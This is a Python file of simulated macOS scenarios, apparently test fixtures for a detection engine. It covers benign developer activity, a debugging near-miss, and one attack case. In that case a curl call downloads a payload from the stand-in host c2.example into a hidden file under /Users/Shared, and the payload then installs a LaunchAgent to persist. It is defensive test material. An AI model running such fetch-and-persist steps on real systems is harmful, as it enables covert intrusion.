"""What is true, and on which the rules or the decoders and these labels do not agree."""

from benign_unlisted import MICROSOFT, java_in, package_tool
from book import Book
from mac import AD_HOC, DEBUGGABLE, HARDENED, HOME, LAUNCHD, LINKED, SHELL, Program, apple
from people import APPLESCRIPT, CURL, LLDB, SH, STANDARD_ADDITIONS, dropped

BOOK = Book()
SCENARIOS = BOOK.scenarios


def java_own_tmp(mac):
    """A service in Java is run with -Djava.io.tmpdir=/tmp, so that JNA's library lies in /private/tmp while it is mapped."""
    java_in(mac, "/private/tmp")


BOOK.benign("java-own-tmp", "Java", "Java that was told to use /tmp", java_own_tmp)


def dotnet_own_build(mac):
    """Somebody who learns .NET runs a program of his own with a profiler's startup hook. The tools give it an ad-hoc signature of their own,
    not the linker's, so that nothing but its place says that it was built here."""
    dotnet = Program("/usr/local/share/dotnet/dotnet", "dotnet", HARDENED, MICROSOFT, jit="yes")
    p = mac.start(dotnet, SHELL, ["dotnet", "run"], env=["DOTNET_STARTUP_HOOKS=/usr/local/share/otel/Hook.dll"])
    own = HOME + "/src/ledger/bin/Debug/net9.0/ledger"
    mac.write(p, own)
    mac.wait()
    mac.exit(mac.start(Program(own, "ledger-5555494", AD_HOC, born=None), p))


BOOK.benign("dotnet-own-build", ".NET and Mono", "A program of one's own, run by dotnet with a startup hook", dotnet_own_build)


def package_with_closures(mac):
    """As the package above; the tool also calls by libffi, which makes memory executable minutes after the tool was written."""
    package_tool(mac, True)


BOOK.benign("package-script-closures", "Device management and installers", "Tool among a package's scripts, with libffi", package_with_closures)


def new_applet(mac):
    """A user writes a script in Script Editor, exports it as an application to the desktop and starts it: it asks for a folder and runs a
    shell. It is a minute old and signed ad hoc, as all applets are."""
    script_editor = mac.start(apple("/System/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor", "com.apple.ScriptEditor2"), LAUNCHD)
    path = HOME + "/Desktop/Sort Mail.app/Contents/MacOS/applet"
    mac.write(script_editor, path)
    mac.wait(60)
    p = mac.start(Program(path, "com.apple.ScriptEditor.id.sort-mail", AD_HOC, born=None), LAUNCHD)
    mac.load(p, APPLESCRIPT)
    mac.load(p, STANDARD_ADDITIONS)
    mac.wait()
    mac.exit(mac.start(SH, p, ["sh", "-c", "ls ~/Mail"]))


BOOK.benign("new-applet", "Automation", "Applet that its user has just exported", new_applet)


def harness_debugged(mac):
    """A developer's harness starts the program that it measures and takes its port to read its memory, while the developer has attached
    lldb to that program: nothing is hidden there."""
    place = HOME + "/src/harness/build"
    p = mac.start(Program(place + "/harness", "harness", LINKED | DEBUGGABLE, born=-5 * 86400.0))
    child = mac.start(Program(place + "/subject", "subject", LINKED | DEBUGGABLE, born=-5 * 86400.0), p)
    mac.trace(mac.start(LLDB, SHELL, ["lldb", "-p", str(child.pid)]), child)
    mac.wait()
    mac.task(p, child)


BOOK.near_miss("S06", "another-debugs", "Harness takes the port of a child that lldb debugs", harness_debugged)


def persists_by_elastic(mac):
    """A fetched program below /Users/Shared writes a launch agent for itself. Elastic Defend names the item's file as Persistence.path and what it
    starts as Persistence.executable; the process of the event is macOS's daemon, so that only the latter leads to the program."""
    path = "/Users/Shared/.sld"
    curl = mac.start(CURL, SHELL, ["curl", "-so", path, "https://c2.example/a"])
    mac.begin()
    mac.write(curl, path)
    mac.wait()
    p = mac.start(dropped(path, born=None))
    item = HOME + "/Library/LaunchAgents/com.example.sld.plist"
    mac.write(p, item)
    btm = apple("/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/backgroundtaskmanagementd",
                "com.apple.backgroundtaskmanagementd")
    mac.launch_item(mac.start(btm, LAUNCHD, uid=0), item, path)
    mac.end()
    return path


BOOK.attack("S15", "payload", "Fetched program makes itself start again, as Elastic Defend tells it", persists_by_elastic,
            expect=["S15-persist", "S15"], sensor="elastic", variants=["plain"], name="persists-by-elastic", allow=["S24"])
